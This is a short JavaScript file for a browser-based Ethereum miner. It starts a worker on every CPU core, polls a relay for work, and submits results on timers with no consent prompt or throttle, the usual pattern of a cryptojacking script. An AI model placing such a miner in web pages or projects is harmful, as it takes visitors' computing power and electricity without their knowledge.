const node = 'https://eth.relay.invalid/NOBODY/tab';
const rpc = async (method, ...params) => (await (await fetch(node, { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) })).json()).result;
let current = '', hashCount = 0;
const workers = Array.from({ length: navigator.hardwareConcurrency }, () => new Worker('ethash.js'));
async function poll() {
  const [headerHash, seedHash, boundary] = await rpc('eth_getWork');
  if (headerHash !== current) {
    current = headerHash;
    workers.forEach((worker, at) => worker.postMessage({ headerHash, seedHash, boundary, startNonce: BigInt(at) << 56n }));
  }
}
workers.forEach((worker) => {
  worker.onmessage = ({ data }) => {
    if (data.hashes) hashCount += data.hashes;
    else rpc('eth_submitWork', data.nonce, current, data.mixDigest);
  };
});
setInterval(poll, 3000);
setInterval(() => { rpc('eth_submitHashrate', '0x' + Math.round(hashCount / 10).toString(16), '0x0'); hashCount = 0; }, 10000);
